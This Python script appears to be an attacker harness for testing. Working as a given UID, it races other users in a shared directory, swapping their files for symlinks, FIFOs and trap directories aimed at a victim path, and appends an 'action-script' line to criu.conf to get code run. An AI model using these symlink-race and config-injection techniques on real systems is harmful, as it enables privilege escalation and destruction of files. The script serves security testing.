"""Owns a directory, and exchanges whatever appears in it: `attacker.py DIRECTORY VICTIM UID`, as a script.

It says "ready", works until its stdin is closed, and then says in a line of JSON how often it exchanged
something and what of all that it could read. In the place of what it takes away it puts a link to the
victim's directory, a directory of its own full of traps, or a file. It also renames directories that
links are being made in, with a link to the victim in their place for a moment.
"""

from __future__ import annotations

import contextlib
import json
import os
import random
import re
import select
import sys

MARK = "executed"
"""What a program of ours writes, should anybody run one."""
STOLEN = "stolen-"
HELD = "held-"
DIRECTORY = re.compile(f"{HELD}dir-[0-9]+")


class Attacker:
    def __init__(self, directory: str, victim: str) -> None:
        self._directory = directory
        self._victim = victim
        self._random = random.Random(1)
        self._number = 0
        self.exchanged = 0
        self.read: list[str] = []
        self.script = os.path.join(directory, "held-program")
        with open(self.script, "w") as program:
            program.write(f"#!/bin/sh\nid -u >> {directory}/{HELD}{MARK}\n")
        os.chmod(self.script, 0o755)

    def work(self) -> None:
        for place in (self._directory, *self._held()):
            with contextlib.suppress(OSError):
                for name in os.listdir(place):
                    if not name.startswith((STOLEN, HELD)):
                        self._exchange(place, name)
        for place in self._held():
            if self._random.random() < 0.2:
                self._move(place)

    def _held(self) -> list[str]:
        """The newest of the directories that others were told to use: there is no time to lose on others."""
        names = [name for name in os.listdir(self._directory) if DIRECTORY.fullmatch(name)]
        newest = sorted(names, key=lambda name: int(name.rpartition("-")[2]))[-2:]
        return [os.path.join(self._directory, name) for name in newest]

    def _exchange(self, place: str, name: str) -> None:
        path = os.path.join(place, name)
        self._number += 1
        away = os.path.join(self._directory, f"{STOLEN}{self._number}")
        try:
            if os.lstat(path).st_uid == os.getuid():
                return
            os.rename(path, away)
        except OSError:
            return
        is_for_programs = name.startswith(".")
        with contextlib.suppress(OSError):
            if is_for_programs:
                self._have_a_program_run(path)
            else:
                self._put(path)
            self.exchanged += 1
        self._look_into(away)
        with contextlib.suppress(OSError):
            if not is_for_programs and self._random.random() < 0.5:  # as if nothing had been
                if os.path.isdir(path) and not os.path.islink(path):
                    os.rename(path, f"{away}-trap")
                else:
                    os.unlink(path)
                os.rename(away, path)

    def _have_a_program_run(self, path: str) -> None:
        """Add to the options that somebody writes for CRIU to read."""
        os.mkdir(path)
        os.chmod(path, 0o777)
        options = os.path.join(path, "criu.conf")
        with open(options, "w+") as config:
            for _ in range(2000):
                config.seek(0)
                if config.read():
                    config.write(f"action-script {self.script}\n")
                    return

    def _put(self, path: str) -> None:
        kind = self._random.randrange(4)
        if kind == 0:
            os.symlink(self._victim, path)
        elif kind == 1:
            os.symlink(os.path.join(self._victim, "precious"), path)
        elif kind == 2:
            self._set_trap(path)
        else:
            os.mkfifo(path)

    def _set_trap(self, path: str) -> None:
        os.mkdir(path)
        os.chmod(path, 0o777)
        for name in ("criu.log", "criu.stderr", "stats-dump", "pages-1.img", "inventory.img", "parent"):
            with contextlib.suppress(FileExistsError):
                os.symlink(os.path.join(self._victim, "precious"), os.path.join(path, name))

    def _look_into(self, taken: str) -> None:
        try:
            with open(taken) if os.path.isfile(taken) else os.scandir(taken) as found:
                self.read.append(f"{taken}: {next(iter(found), None)}")
        except OSError:
            return

    def _move(self, place: str) -> None:
        aside = f"{place}-{self._number}"
        with contextlib.suppress(OSError):
            os.rename(place, aside)
            os.symlink(self._victim, place)
            self.exchanged += 1
            os.unlink(place)
            os.rename(aside, place)


def main() -> None:
    directory, victim, uid = sys.argv[1:]
    # Only now: others may not be able to run our Python.
    os.setgroups([])
    os.setgid(int(uid))
    os.setuid(int(uid))
    attacker = Attacker(directory, victim)
    print("ready", flush=True)
    while not select.select([sys.stdin], [], [], 0)[0]:
        attacker.work()
    print(json.dumps({"exchanged": attacker.exchanged, "read": attacker.read}), flush=True)


if __name__ == "__main__":
    main()
